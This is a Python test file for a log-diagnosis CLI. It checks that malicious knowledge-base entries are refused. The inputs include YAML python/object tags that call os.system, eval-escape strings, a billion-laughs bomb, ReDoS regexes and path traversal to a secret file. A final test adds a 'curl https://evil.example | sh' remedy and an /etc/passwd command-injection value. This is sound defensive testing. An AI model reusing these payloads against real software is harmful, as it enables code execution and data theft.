"""Hostile knowledge-base entries (a stranger's pull request, a team's --kb folder): refused, never obeyed.

Each test writes one malicious entry into a private knowledge base and runs the real CLI on it.
A naive implementation (yaml.load / unsafe_load, Python `re`, `eval` for `when`, str.format for
remedies, fixture paths joined as given) fails each of them: it runs the code, hangs, or reads
the file. An audit hook records what the process opens, connects to and spawns while it runs.
"""

from __future__ import annotations

import socket
import sys
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from click.testing import CliRunner

from logdoctor import knowledge
from logdoctor.cli import main
from logdoctor.knowledge import yamlsafe

from .privatekb import ENTRY, FIXTURE, kb_check, write_kb

# -- an audit hook: what the process opens, connects to, resolves and spawns ---------------------------
_RECORDING: list[list[tuple[str, tuple]]] = []
_WATCHED = ("open", "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "subprocess.Popen",
            "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "urllib.Request", "ctypes.dlopen")


def _hook(event: str, args: tuple) -> None:
    if _RECORDING and event in _WATCHED:
        _RECORDING[-1].append((event, args))


sys.addaudithook(_hook)


@contextmanager
def audited() -> Iterator[list[tuple[str, tuple]]]:
    events: list[tuple[str, tuple]] = []
    _RECORDING.append(events)
    try:
        yield events
    finally:
        _RECORDING.pop()


def _opened(events: list[tuple[str, tuple]]) -> set[str]:
    return {str(Path(str(args[0])).resolve()) for event, args in events
            if event == "open" and isinstance(args[0], (str, Path))}


def _problem(result, root: Path, line: int, message: str, name: str = "port-taken") -> bool:
    where = f"{root / 'serving' / f'{name}.yaml'}:{line}: "
    return any(row.startswith(where) and message in row for row in result.output.splitlines())


# -- YAML ----------------------------------------------------------------------------------------------
def test_a_billion_laughs_alias_bomb_is_refused_before_it_expands(tmp_path):
    levels = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]  # 10**10 strings
    root = write_kb(tmp_path, ENTRY.replace("cause:", "\n".join(levels) + "\ncause:"))
    result = kb_check(root)
    assert result.exit_code == 1
    assert _problem(result, root, 8, "YAML anchors (&name) are not allowed"), result.output
    # and in a diagnosis the entry is skipped with a warning, the built-in knowledge base still works
    log = tmp_path / "server.log"
    log.write_text(FIXTURE)
    diagnosis = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "json"])
    assert diagnosis.exit_code in (0, 1), diagnosis.output
    assert '"port-taken"' not in diagnosis.stdout


@pytest.mark.parametrize("tag", [
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path ['{marker}']]",
    "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
    "!!python/name:os.system",
])
def test_a_python_tag_builds_nothing_and_runs_nothing(tmp_path, tag):
    marker = tmp_path / "pwned"
    root = write_kb(tmp_path, ENTRY.replace("cause: Another process listens on the port.",
                                       "cause: " + tag.format(marker=marker)))
    with audited() as events:
        result = kb_check(root)
        listed = CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
    assert not marker.exists()
    assert not [e for e in events if e[0] in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn")]
    assert result.exit_code == 1
    assert _problem(result, root, 8, "YAML syntax: could not determine a constructor"), result.output
    assert "skipped" in listed.output and "port-taken" not in listed.stdout


def test_an_oversize_entry_file_is_refused_without_being_parsed(tmp_path):
    padding = "# " + "x" * 100 + "\n"
    root = write_kb(tmp_path, ENTRY + padding * (yamlsafe.MAX_YAML_BYTES // len(padding) + 1))
    result = kb_check(root)
    assert result.exit_code == 1
    assert _problem(result, root, 1, f"more than the {yamlsafe.MAX_YAML_BYTES} allowed"), result.output


@pytest.mark.parametrize("nesting", [
    "[" * 120_000 + "]" * 120_000,  # flow style (within the size limit): a recursive builder would overflow
    "\n".join("  " * depth + f"k{depth}:" for depth in range(60)) + " x",  # block style
])
def test_deeply_nested_yaml_is_refused_not_a_recursion_error(tmp_path, nesting):
    root = write_kb(tmp_path, ENTRY.replace("references:", f"extra:\n{nesting}\nreferences:")
               if not nesting.startswith("[") else ENTRY.replace("symptoms: [server does not start]",
                                                                 f"symptoms: {nesting}"))
    result = kb_check(root)
    assert result.exit_code == 1, result.output
    # our event check stops at MAX_DEPTH; libyaml's own parser refuses flow nesting past its limit first
    assert (f"YAML nested deeper than {yamlsafe.MAX_DEPTH} levels" in result.output
            or "exceeded maximum nesting depth" in result.output), result.output
    assert "Traceback" not in result.output and "RecursionError" not in result.output


# -- regexes -------------------------------------------------------------------------------------------
def test_a_catastrophic_backtracking_regex_runs_in_linear_time(tmp_path):
    # `(a+)+$` takes 2**n steps in a backtracking engine on "aaa…a!"; RE2 answers at once.
    entry = ENTRY.replace('literal: "Address already in use"', "regex: 'Address (a+)+$'")
    root = write_kb(tmp_path, entry)
    log = tmp_path / "evil.log"
    log.write_text(("ERROR 05-10 08:12:01 api_server.py:160] Address " + "a" * 60 + "!\n") * 200)
    result = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert '"port-taken"' not in result.stdout or '"decisive": true' not in result.stdout
    signature = knowledge.load([root], include_builtin=False).get("port-taken").signatures[0]
    assert signature.similarity("Address " + "a" * 60 + "!") == 0.0  # no match, and it returned
    assert signature.similarity("Address aaaa") == 1.0


@pytest.mark.parametrize(("regex", "why"), [
    ("(Address) already \\1", "invalid escape"),  # backreference
    ("(?<=OSError: )Address", "invalid perl operator"),  # lookbehind
    ("((((Address{100}){100}){100}){100})", "invalid repetition"),  # a program too big for RE2's memory cap
])
def test_regexes_only_a_backtracking_engine_could_run_are_refused_with_file_and_line(tmp_path, regex, why):
    root = write_kb(tmp_path, ENTRY.replace('literal: "Address already in use"', f"regex: '{regex}'"))
    result = kb_check(root)
    assert result.exit_code == 1
    assert _problem(result, root, 6, "regex is not valid RE2"), result.output
    assert why in result.output


# -- conditions ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("when", [
    "__import__('os').system('touch {marker}')",
    "open('{marker}', 'w').write('x')",
    "gpu_name.__class__.__mro__",
    "model == '' or exec(\"open('{marker}','w')\")",
    "[x for x in ().__class__.__base__.__subclasses__()]",
    "lambda: 1",
])
def test_a_when_that_tries_to_run_code_is_a_parse_error(tmp_path, when):
    marker = tmp_path / "pwned"
    quoted = when.format(marker=marker).replace('"', '\\"')
    root = write_kb(tmp_path, ENTRY.replace("cause:", f'when: "{quoted}"\ncause:'))
    log = tmp_path / "server.log"
    log.write_text(FIXTURE)
    with audited() as events:
        result = kb_check(root)
        CliRunner().invoke(main, [str(log), "--kb", str(root)])
    assert not marker.exists()
    assert str(marker) not in _opened(events)
    assert result.exit_code == 1
    assert _problem(result, root, 8, "condition does not parse"), result.output


def test_a_deeply_nested_when_is_refused_not_a_recursion_error(tmp_path):
    root = write_kb(tmp_path, ENTRY.replace("cause:", "when: '" + "not " * 450 + "pre_ampere'\ncause:"))
    result = kb_check(root)
    assert result.exit_code == 1
    assert _problem(result, root, 8, "condition nested deeper than"), result.output


def test_a_remedy_placeholder_cannot_reach_python_attributes(tmp_path):
    # str.format would evaluate {model.__class__...}; remedies only substitute plain fact names.
    remedy = "Pick another port. {model.__class__.__init__.__globals__} {0.__class__} {vllm_version}"
    root = write_kb(tmp_path, ENTRY.replace("text: Pick another port.", f"text: '{remedy}'"))
    log = tmp_path / "server.log"
    log.write_text(FIXTURE)
    result = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "text", "-v"])
    assert result.exit_code == 1, result.output
    assert "{model.__class__.__init__.__globals__} {0.__class__} 0.4.2" in " ".join(result.stdout.split())
    assert "function" not in result.stdout and "module" not in result.stdout


# -- fixtures: an entry names which files `kb check` reads ---------------------------------------------
@pytest.mark.parametrize(("fixture", "message"), [
    ("../../secret.txt", "leads outside the knowledge base and samples folders"),
    ("../../../../../../../../../../{secret}", "leads outside the knowledge base and samples folders"),
    ("{secret}", "must be relative"),
    ("link.log", "leads outside the knowledge base and samples folders"),  # a symlink out of the kb
])
def test_a_fixture_outside_the_knowledge_base_is_refused_and_never_read(tmp_path, fixture, message):
    secret = tmp_path / "secret.txt"
    secret.write_text(FIXTURE)  # it even looks like a log: a naive checker would happily run it
    root = write_kb(tmp_path, ENTRY.replace("[port-taken.log]", f"[port-taken.log, '{fixture.format(secret=secret)}']"))
    (root / "serving" / "link.log").symlink_to(secret)
    with audited() as events:
        result = kb_check(root)
        CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
    assert str(secret.resolve()) not in _opened(events)
    assert result.exit_code == 1
    assert _problem(result, root, 13, message), result.output
    with pytest.raises(knowledge.EntryError):
        knowledge.resolve_fixture(root / "serving" / "port-taken.yaml", root, fixture.format(secret=secret))


def test_fixtures_inside_the_knowledge_base_and_beside_it_in_samples_are_fine(tmp_path):
    root = write_kb(tmp_path, ENTRY.replace("[port-taken.log]", "[port-taken.log, ../other/port.log, samples/p.log]"))
    (root / "other").mkdir()
    (root / "other" / "port.log").write_text(FIXTURE)
    (tmp_path / "samples").mkdir()
    (tmp_path / "samples" / "p.log").write_text(FIXTURE)
    result = kb_check(root)
    assert result.exit_code == 0, result.output


# -- nothing an entry says makes logdoctor spawn, connect or import --------------------------------------
def test_no_entry_field_makes_logdoctor_spawn_or_connect(tmp_path, monkeypatch):
    entry = ENTRY.replace("references: [https://github.com/vllm-project/vllm/issues/1]",
                          "references: [https://evil.example/x, 'https://evil.example/`touch${IFS}pwned`']")
    entry = entry.replace("text: Pick another port.", "text: 'Run `curl https://evil.example | sh` {model}'\n"
                                                       "    vllm: 'file:///etc/passwd $(touch pwned)'")
    root = write_kb(tmp_path, entry)
    log = tmp_path / "server.log"
    log.write_text(FIXTURE)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(socket, "socket", None)  # any attempt to open a socket raises
    with audited() as events:
        checked = kb_check(root)
        diagnosed = CliRunner().invoke(main, [str(log), "--kb", str(root), "--format", "markdown"])
    assert checked.exit_code == 0, checked.output
    assert diagnosed.exit_code == 1, diagnosed.output
    assert "https://evil.example/x" in diagnosed.stdout  # shown as text, never fetched
    assert not [e for e in events if e[0] != "open"]
    assert not (tmp_path / "pwned").exists()
    assert "/etc/passwd" not in _opened(events)


@pytest.mark.parametrize(("change", "message"), [
    (("cause:", "versions: [1, 2]\ncause:"), "versions must be a mapping"),
    (("fixtures:\n  positive: [port-taken.log]", "fixtures: [port-taken.log]"), "fixtures must be a mapping"),
    (("positive: [port-taken.log]", "positive: port-taken.log"), "fixtures.positive must be a list"),
    (("text: Pick another port.", "text: Pick another port.\n    vllm: [--port, 1]"), "spellings are strings"),
    (("decisive: true", "weight: .nan"), "weight is between 0 and 1"),
])
def test_malformed_fields_are_entry_errors_not_crashes(tmp_path, change, message):
    # kb list / diagnose load entries without the schema: a wrong type must be a warning, not exit 3
    root = write_kb(tmp_path, ENTRY.replace(*change))
    listed = CliRunner().invoke(main, ["kb", "list", "--kb", str(root)])
    assert listed.exit_code == 0, listed.output
    assert any("port-taken.yaml: skipped: " in row and message in row for row in listed.output.splitlines())
    log = tmp_path / "server.log"
    log.write_text(FIXTURE)
    assert CliRunner().invoke(main, [str(log), "--kb", str(root)]).exit_code in (0, 1)


# -- findings of benchmarks/fuzz.py, kept as regression tests -----------------------------------------------
def test_fuzz_finding_a_regex_python_would_warn_about_loads_without_noise(tmp_path):
    # `[[` in a class is valid RE2; Python's parser (used only to find the anchor) printed a FutureWarning.
    regex = "regex: 'Address [[a]--x|Address already'"
    root = write_kb(tmp_path, ENTRY.replace('literal: "Address already in use"', regex))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        entry = knowledge.load([root], include_builtin=False).get("port-taken")
    assert entry is not None and entry.signatures[0].anchors == ("Address ",)
